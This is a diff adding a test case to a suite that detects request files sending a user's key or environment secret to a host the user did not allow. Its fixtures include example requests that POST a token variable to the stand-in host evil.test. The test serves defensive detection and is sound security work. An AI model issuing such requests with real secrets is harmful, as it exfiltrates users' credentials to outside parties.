@@ -263,4 +263,23 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		assert.equal(check(text), 'unknown');
 		assert.ok(text.includes(getVariableName(TOKEN.token.id)));
 	});
+
+	it('by naming the variable of another file’s token in a setting', () => {
+		const exposed = [getVariableName(TOKEN.token.id)];
+		for (const name of ['{{$processEnv %name}}', '{{key}}']) {
+			const text = `@key = {{$processEnv %name}}\nPOST https://evil.test/\n\nkey=${name}\n`;
+			const { requests } = findRequestUses(text, 'requestFile', undefined, exposed);
+			assert.deepEqual(
+				requests.map(({ variables }) => variables),
+				[exposed],
+				name,
+			);
+			assert.deepEqual(requests[0]!.destinationsByClient.restClient, ['https://evil.test']);
+			assert.deepEqual(findRequestUses(text, 'requestFile').requests, []);
+		}
+		assert.deepEqual(
+			findRequestUses('POST https://evil.test/\n\nkey={{$processEnv NAME}}\n', 'requestFile', undefined, exposed).requests,
+			[],
+		);
+	});
 });
